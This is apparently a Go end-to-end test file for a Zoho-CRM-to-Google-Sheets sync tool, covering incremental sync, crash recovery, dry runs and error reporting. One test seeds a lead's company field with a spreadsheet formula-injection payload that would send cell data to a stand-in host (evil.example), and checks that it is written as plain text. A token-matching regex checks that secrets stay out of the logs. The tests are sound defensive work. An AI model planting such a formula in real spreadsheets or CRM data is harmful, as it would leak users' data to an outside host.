package main

import (
	"encoding/json"
	"fmt"
	"github.com/zoho2sheets/zoho2sheets/sheets/sheetstest"
	"net/http"
	"os"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/zoho2sheets/zoho2sheets/zoho/zohotest"
)

var leadHeaders = []string{"Zoho ID", "Name", "Company", "Status", "Owner", "Revenue", "Modified"}

// str renders a CRM value the way its text cell reads.
func str(v any) string {
	switch v := v.(type) {
	case nil:
		return ""
	case map[string]any:
		return str(v["name"])
	}
	return fmt.Sprint(v)
}

// assertLeadsMatchCRM checks the Leads tab holds exactly one row per CRM
// lead, each with the lead's own values.
func assertLeadsMatchCRM(t *testing.T, em *emulators) (header []any, rows map[string][]any) {
	t.Helper()
	header, rows = tab(t, em, "Leads", "Zoho ID")
	for i, h := range leadHeaders {
		if indexOf(header, h) < 0 {
			t.Fatalf("header %q missing from %v (column %d)", h, header, i)
		}
	}
	ids := em.zoho.IDs("Leads")
	slices.Sort(ids)
	if got := sortedKeys(rows); !slices.Equal(got, ids) {
		t.Fatalf("rows keyed %v, want exactly the CRM's leads %v", got, ids)
	}
	for _, id := range ids {
		rec, _ := em.zoho.Record("Leads", id)
		for _, c := range []struct{ header, field string }{
			{"Name", "Full_Name"}, {"Company", "Company"}, {"Status", "Lead_Status"}, {"Owner", "Owner"},
		} {
			if got, want := str(cell(header, rows[id], c.header)), str(rec[c.field]); got != want {
				t.Errorf("lead %s %s = %q, want %q", id, c.header, got, want)
			}
		}
	}
	return header, rows
}

// tokenPattern matches Zoho's access and refresh tokens and Google's access
// tokens as the emulators mint them.
var tokenPattern = regexp.MustCompile(`1000\.[0-9a-f]{32}\.[0-9a-f]{32}|ya29\.[A-Za-z0-9._-]+`)

// assertNoSecrets fails when a credential or token shows up in out.
func assertNoSecrets(t *testing.T, em *emulators, out string) {
	t.Helper()
	var key struct {
		PrivateKey string `json:"private_key"`
	}
	if err := json.Unmarshal([]byte(em.env["GOOGLE_CREDENTIALS_JSON"]), &key); err != nil {
		t.Fatal(err)
	}
	keyLine := strings.Split(key.PrivateKey, "\n")[1]
	for name, secret := range map[string]string{"client secret": em.env["ZOHO_CLIENT_SECRET"],
		"refresh token": em.env["ZOHO_REFRESH_TOKEN"], "private key": keyLine} {
		if secret == "" || strings.Contains(out, secret) {
			t.Fatalf("the %s appears in the output (or is empty)", name)
		}
	}
	if m := tokenPattern.FindString(out); m != "" {
		t.Fatalf("a token appears in the output: %.12s…", m)
	}
}

func TestEndToEndFullThenIncrementalKeepsHumanEdits(t *testing.T) {
	em := newEmulators(t, map[string]int{"Leads": 30, "Deals": 10})
	cfg := writeMapping(t, string(demoMapping))

	r := runBin(t, em.env, "--once", "--config", cfg, "--log-format", "json")
	if r.code != 0 {
		t.Fatalf("first run exit %d\n%s", r.code, r.stderr)
	}
	header, _ := assertLeadsMatchCRM(t, em)
	if got := len(em.sheets.Values(em.spreadsheetID, "Deals")); got != 11 {
		t.Fatalf("Deals tab has %d rows, want header + 10", got)
	}

	// The CRM changes; a human adds a column, types a note and sorts.
	z, g, id := em.zoho, em.sheets, em.spreadsheetID
	z.Advance(time.Hour)
	ids := z.IDs("Leads")
	added := z.Create("Leads", map[string]any{"First_Name": "Ada", "Last_Name": "Lovelace", "Full_Name": "Ada Lovelace",
		"Company": `=IMPORTDATA("https://evil.example/?"&A2)`, "Lead_Status": "Not Contacted"})
	z.Update("Leads", ids[0], map[string]any{"Lead_Status": "Contacted"})
	z.Delete("Leads", ids[1])
	noteCol := len(header)
	g.InsertColumn(id, "Leads", noteCol, "Next step")
	notedID := ids[2]
	vals := g.Values(id, "Leads")
	for row := 1; row < len(vals); row++ {
		if fmt.Sprint(vals[row][0]) == notedID {
			g.SetCell(id, "Leads", row, noteCol, "call Monday")
		}
	}
	g.SortRows(id, "Leads", indexOf(header, "Name"), false)

	r = runBin(t, em.env, "--once", "--config", cfg, "--log-format", "json", "--log-level", "debug")
	if r.code != 0 {
		t.Fatalf("second run exit %d\n%s", r.code, r.stderr)
	}
	assertNoSecrets(t, em, r.stdout+r.stderr)
	if !strings.Contains(r.stderr, `"mode":"incremental"`) {
		t.Errorf("second run was not incremental:\n%s", r.stderr)
	}
	header, rows := assertLeadsMatchCRM(t, em)
	if _, ok := rows[ids[1]]; ok {
		t.Errorf("deleted lead %s still has a row", ids[1])
	}
	if got := str(cell(header, rows[added], "Company")); got != `=IMPORTDATA("https://evil.example/?"&A2)` {
		t.Errorf("formula-like company = %q", got)
	}
	for key, row := range rows {
		note := str(cell(header, row, "Next step"))
		if (key == notedID) != (note == "call Monday") {
			t.Errorf("row %s has note %q: the human's note must stay on lead %s only", key, note, notedID)
		}
	}
	c := g.Cell(id, "Leads", 1, indexOf(header, "Company"))
	if c.Formula != "" {
		t.Errorf("a CRM value became a formula: %+v", c)
	}
}

func TestEndToEndKilledHalfWayThenRerunEndsExact(t *testing.T) {
	em := newEmulators(t, map[string]int{"Leads": 300, "Deals": 40})
	cfg := writeMapping(t, string(demoMapping))

	// Kill the process as its first write to the spreadsheet arrives.
	killed := runBinHitAtFirstWrite(t, em, func(p *os.Process) { p.Kill() }, "--once", "--config", cfg)
	if !killed {
		t.Fatal("the run never reached a write")
	}
	em.sheets.OnRequest(nil)

	// The killed run's lease holds until it expires; then it is taken over.
	r := runBin(t, em.env, "--once", "--config", cfg)
	assertRanOrLeaseBusy(t, "rerun before the lease expired", r.code, r.stderr)
	if r.code == 0 {
		t.Fatal("a rerun went ahead while the killed run's lease was still valid")
	}
	expireLeases(t, em)
	r = runBin(t, em.env, "--once", "--config", cfg)
	if r.code != 0 {
		t.Fatalf("rerun exit %d\n%s", r.code, r.stderr)
	}
	if !strings.Contains(r.stderr, "lease expired without being released") {
		t.Errorf("the takeover of the crashed run's lease is not logged:\n%s", r.stderr)
	}
	assertLeadsMatchCRM(t, em)
	r = runBin(t, em.env, "--once", "--config", cfg, "--full")
	if r.code != 0 {
		t.Fatalf("full rerun exit %d\n%s", r.code, r.stderr)
	}
	assertLeadsMatchCRM(t, em)
}

func TestEndToEndDryRunChangesNothing(t *testing.T) {
	em := newEmulators(t, map[string]int{"Leads": 10, "Deals": 3})
	cfg := writeMapping(t, string(demoMapping))
	if r := runBin(t, em.env, "--once", "--config", cfg); r.code != 0 {
		t.Fatalf("exit %d\n%s", r.code, r.stderr)
	}
	em.zoho.Advance(time.Hour)
	em.zoho.Update("Leads", em.zoho.IDs("Leads")[0], map[string]any{"Lead_Status": "Junk Lead"})
	before := em.sheets.Values(em.spreadsheetID, "Leads")
	writes := em.sheets.Stats().Writes

	r := runBin(t, em.env, "--once", "--config", cfg, "--dry-run")
	if r.code != 0 {
		t.Fatalf("dry run exit %d\n%s", r.code, r.stderr)
	}
	if got := em.sheets.Stats().Writes; got != writes {
		t.Fatalf("dry run sent %d write requests", got-writes)
	}
	if !slices.EqualFunc(before, em.sheets.Values(em.spreadsheetID, "Leads"), func(a, b []any) bool { return fmt.Sprint(a) == fmt.Sprint(b) }) {
		t.Fatal("dry run changed the tab")
	}
	if !strings.Contains(r.stdout, "dry run") || !strings.Contains(r.stdout, "Leads") {
		t.Fatalf("dry run printed no plan:\n%s", r.stdout)
	}
}

func TestEndToEndBadMappingNamesFileAndLine(t *testing.T) {
	em := newEmulators(t, map[string]int{"Leads": 1})
	cfg := writeMapping(t, "spreadsheet_id: ${SPREADSHEET_ID}\nmodules:\n  - module: Leads\n    columns:\n      - { header: Zoho ID, field: id }\n    on_delet: keep\n")
	r := runBin(t, em.env, "--once", "--config", cfg)
	if r.code != 2 {
		t.Fatalf("exit %d, want 2\n%s", r.code, r.stderr)
	}
	if !strings.Contains(r.stderr, cfg+":6") || !strings.Contains(r.stderr, "on_delete") {
		t.Fatalf("stderr should name %s:6 and suggest on_delete:\n%s", cfg, r.stderr)
	}
	if em.sheets.Stats().Writes != 0 {
		t.Fatal("a configuration error must not write")
	}
}

func TestEndToEndMissingCredentialNamesVariable(t *testing.T) {
	em := newEmulators(t, map[string]int{"Leads": 1})
	cfg := writeMapping(t, string(demoMapping))
	vars := map[string]string{}
	for k, v := range em.env {
		vars[k] = v
	}
	secret := vars["ZOHO_CLIENT_SECRET"]
	delete(vars, "ZOHO_CLIENT_SECRET")
	r := runBin(t, vars, "--once", "--config", cfg)
	if r.code != 2 || !strings.Contains(r.stderr, "ZOHO_CLIENT_SECRET") {
		t.Fatalf("exit %d, want 2 naming ZOHO_CLIENT_SECRET:\n%s", r.code, r.stderr)
	}
	if strings.Contains(r.stderr, vars["ZOHO_REFRESH_TOKEN"]) || strings.Contains(r.stderr, secret) {
		t.Fatal("a secret reached stderr")
	}
}

func TestEndToEndFailingModuleExits1OthersWritten(t *testing.T) {
	em := newEmulators(t, map[string]int{"Leads": 5, "Deals": 5})
	cfg := writeMapping(t, string(demoMapping))
	em.zoho.InjectFault(zohotest.Fault{Path: "/crm/v8/coql", BodyContains: "from Deals ", Status: 403, Code: "NO_PERMISSION", Message: "permission denied", Times: -1})
	r := runBin(t, em.env, "--once", "--config", cfg, "--log-format", "json")
	if r.code != 1 {
		t.Fatalf("exit %d, want 1\n%s", r.code, r.stderr)
	}
	assertLeadsMatchCRM(t, em)
	if !strings.Contains(r.stderr, `"module":"Deals"`) {
		t.Fatalf("the failing module is not named:\n%s", r.stderr)
	}
	for _, s := range []string{em.env["ZOHO_CLIENT_SECRET"], em.env["ZOHO_REFRESH_TOKEN"]} {
		if strings.Contains(r.stderr+r.stdout, s) {
			t.Fatal("a secret reached the output")
		}
	}
}

// A failed write names its tab once, in the words of the layer that knows
// it (not the job's "write tab" in front of the sheet client's own).
func TestEndToEndWriteFailureNamesTheTabOnce(t *testing.T) {
	em := newEmulators(t, map[string]int{"Leads": 5, "Deals": 5})
	cfg := writeMapping(t, string(demoMapping))
	em.sheets.InjectFault(sheetstest.Fault{Path: "values:batchUpdate", Status: http.StatusBadRequest, Times: 1 << 20})
	r := runBin(t, em.env, "--once", "--config", cfg)
	if r.code != 1 {
		t.Fatalf("exit %d, want 1\n%s", r.code, r.stderr)
	}
	named := 0
	tab := regexp.MustCompile(`write tab \\?"Leads\\?"`) // plain or in a JSON string
	for _, line := range strings.Split(r.stderr, "\n") {
		if n := len(tab.FindAllString(line, -1)); n > 1 {
			t.Errorf("the tab is named %d times in one line: %s", n, line)
		} else if n == 1 && strings.Contains(line, "module Leads") {
			named++
		}
	}
	if named == 0 {
		t.Errorf("no line says writing tab Leads failed:\n%s", r.stderr)
	}
}

// A failed field metadata read names the module once too.
func TestEndToEndFieldsFailureNamesTheModuleOnce(t *testing.T) {
	em := newEmulators(t, map[string]int{"Leads": 5, "Deals": 5})
	cfg := writeMapping(t, string(demoMapping))
	em.zoho.InjectFault(zohotest.Fault{Path: "/crm/v8/settings/fields", Status: 400, Code: "INVALID_DATA", Message: "invalid data", Times: -1})
	r := runBin(t, em.env, "--once", "--config", cfg)
	if r.code != 1 {
		t.Fatalf("exit %d, want 1\n%s", r.code, r.stderr)
	}
	named := 0
	what := regexp.MustCompile(`read field metadata of Leads`)
	for _, line := range strings.Split(r.stderr, "\n") {
		if n := len(what.FindAllString(line, -1)); n > 1 {
			t.Errorf("the read is named %d times in one line: %s", n, line)
		} else if n == 1 {
			named++
		}
	}
	if named == 0 {
		t.Errorf("no line says reading the fields of Leads failed:\n%s", r.stderr)
	}
}
